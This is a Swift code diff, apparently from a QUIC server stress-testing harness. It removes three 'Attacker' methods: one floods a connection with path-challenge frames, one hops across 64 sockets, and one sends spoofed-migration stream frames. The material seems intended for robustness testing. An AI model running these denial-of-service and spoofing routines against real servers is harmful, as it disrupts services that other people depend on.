@@ -1,7 +1,7 @@
 import LoadModel
 import PacketWriter
 
-/// Attacks of established clients by way of acknowledgements, connection IDs, paths, frames and keys.
+/// Attacks of established clients by way of acknowledgements, connection IDs, frames and keys.
 extension Attacker {
     func acknowledgeNothing() throws {
         let connection = try establish()
@@ -66,33 +66,6 @@ extension Attacker {
             connection.writer.destination = id
             connection.send(Frame.retireConnectionID(inUse) + connection.acknowledgement)
             inUse = next
-        }
-        close(connection)
-    }
-
-    func challengePath() throws {
-        let connection = try establish()
-        try flood(serving: connection) { _ in
-            connection.send((0..<20).flatMap { _ in Frame.pathChallenge(random(8)) } + connection.acknowledgement)
-        }
-        close(connection)
-    }
-
-    func hopPorts() throws {
-        let connection = try establish()
-        let sockets = try (0..<64).map { _ in try openSocket() }
-        try flood(serving: connection) { number in
-            sockets[number % sockets.count].send(connection.writer.packet(Frame.ping + connection.acknowledgement))
-        }
-        close(connection)
-    }
-
-    func migrateSpoofed() throws {
-        let connection = try establish()
-        let stranger = try openSocket(1)
-        for number in UInt64(0)..<50 {
-            stranger.send(connection.writer.packet(Frame.stream(0, offset: number, [1])))
-            pause(.milliseconds(2), serving: connection)
         }
         close(connection)
     }
